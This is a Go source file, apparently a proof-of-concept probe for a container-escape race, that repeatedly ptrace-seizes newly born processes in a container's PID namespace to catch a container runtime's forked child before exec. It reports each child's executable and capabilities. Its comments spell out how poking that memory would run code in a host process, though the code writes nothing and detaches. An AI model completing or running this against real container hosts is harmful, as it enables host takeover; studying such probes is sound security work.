package main

import (
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// seizeNew attacks a runtime that forks into the container's PID
// namespace a child sharing its memory until the exec (Go's fork does):
// with CAP_SYS_PTRACE in the host's user namespace, seize every process
// born in our PID namespace the moment its PID exists, and report its
// executable (DEV:INO). A child that shows the runtime's own executable is
// the runtime's memory: stopped and written (PTRACE_POKEDATA), it would run
// our code in a host process. Nothing is written; each is let go at once.
func seizeNew(args []string) error {
	d, err := seconds(args[0])
	if err != nil {
		return err
	}
	// A tracer is a thread.
	runtime.LockOSThread()
	last, err := lastPID()
	if err != nil {
		return err
	}
	next, seized := last+1, 0
	fmt.Println("seizing new processes")
	// For a startup probe: the pod's next containers start once it is.
	if err := os.WriteFile("/tmp/seizing", nil, 0o644); err != nil {
		return err
	}
	for end, i := time.Now().Add(d), 0; time.Now().Before(end); i++ {
		if i%32 == 0 {
			if last, err = lastPID(); err != nil {
				return err
			}
		}
		switch err := unix.PtraceSeize(next); {
		case err == nil:
			seized++
			inspect(next)
			next++
		case err == unix.ESRCH:
			if last >= next { // born and gone between two tries
				next++
			}
		default:
			fmt.Printf("pid %d: seize: %s\n", next, errno(err))
			next++
		}
	}
	fmt.Printf("seized %d processes\ndone\n", seized)
	return nil
}

// inspect reports what seized process pid runs and the capabilities it
// holds (a runtime's process not yet confined holds all), then stops it
// and lets it go.
func inspect(pid int) {
	var st unix.Stat_t
	if err := unix.Stat("/proc/"+strconv.Itoa(pid)+"/exe", &st); err != nil {
		fmt.Printf("pid %d: exe: %s\n", pid, errno(err))
	} else {
		fmt.Printf("pid %d: capeff %s exe %d:%d\n", pid, capEff(pid), st.Dev, st.Ino)
	}
	if unix.PtraceInterrupt(pid) == nil && waitStop(pid, false) == nil {
		_ = unix.PtraceDetach(pid)
	}
}

// lastPID is the last PID handed out in our PID namespace.
func lastPID() (int, error) {
	b, err := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	if err != nil {
		return 0, err
	}
	return strconv.Atoi(strings.TrimSpace(string(b)))
}

// capEff is the CapEff line of pid's status, "?" if unread.
func capEff(pid int) string {
	b, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/status")
	if err != nil {
		return "?"
	}
	for _, l := range strings.Split(string(b), "\n") {
		if v, ok := strings.CutPrefix(l, "CapEff:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "?"
}
